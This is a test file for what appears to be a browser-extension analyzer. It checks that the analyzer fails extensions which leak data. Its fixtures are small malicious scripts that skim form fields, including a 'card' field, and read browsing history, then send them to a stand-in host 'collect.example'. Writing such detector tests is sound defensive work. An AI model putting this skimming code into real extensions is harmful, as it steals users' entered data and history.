import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';
import { graded } from '../testing/graded.ts';

const MANIFEST = JSON.stringify({
  manifest_version: 3,
  name: 'Sample',
  version: '1',
  content_scripts: [{ matches: ['<all_urls>'], js: ['fields.js', 'send.js'] }],
});
const gradedBy = async (property: string): Promise<string> => {
  const { score } = await analyze(
    memoryTree({
      'manifest.json': MANIFEST,
      'fields.js': `const KINDS = new Set(['text', 'email']); const isField = (el) => KINDS.has(el.type); function describe(el) { return { label: el.name, value: ${property} }; } function fieldsIn(root) { return [...root.querySelectorAll('input, textarea')].filter(isField); }`,
      'send.js': `document.addEventListener('submit', (event) => { const items = fieldsIn(event.target).map(describe); navigator.sendBeacon('https://collect.example/o', JSON.stringify({ items })); }, true);`,
    }),
    { kind: 'extension' },
  );
  return score.grade;
};

it('elements that a function of another script finds, and one more is handed by its name', async () => {
  expect(await gradedBy('el.value')).toBe('F');
  expect(await gradedBy('el.tagName')).toMatch(/^A/);
});

describe('elements that a map holds', () => {
  const sent = async (use: string): Promise<string> =>
    graded({
      content: `document.addEventListener('click', () => { const found = new Map(); for (const el of document.querySelectorAll('input')) found.set(el.name, el); fetch('https://collect.example/i?' + ${use}); });`,
    });
  it.each([
    "[...found].map(([name, el]) => name + el.value).join('|')",
    "[...found].map((pair) => pair[1].value).join('|')",
    "Array.from(found, ([name, el]) => el.value).join('|')",
    "found.get('card').value",
    'Object.fromEntries(found).card.value',
  ])('and gives as pairs or by their names: %s', async (use) => {
    expect(await sent(use)).toBe('F');
  });
  it.each(["[...found].map(([name, el]) => el.tagName).join('|')", "found.get('card').tagName"])(
    'say nothing by what is no value: %s',
    async (use) => {
      expect(await sent(use)).toMatch(/^A/);
    },
  );
});

it('what a program puts on a promise of its own is found where that got to', async () => {
  const later = (tell: string): string =>
    `function made() { let done, failed; const later = new Promise((a, b) => { done = a; failed = b; }); later.catch(() => {}); later.resolve = (one) => { ${tell} }; return later; } const asked = made(); asked.then((list) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(list) })); chrome.history.search({ text: '' }, (list) => asked.resolve(list));`;
  const manifest = { permissions: ['history'] };
  expect(await graded({ background: later('done(one);'), manifest })).toBe('F');
  expect(await graded({ background: later('done(1);'), manifest })).toMatch(/^A/);
});
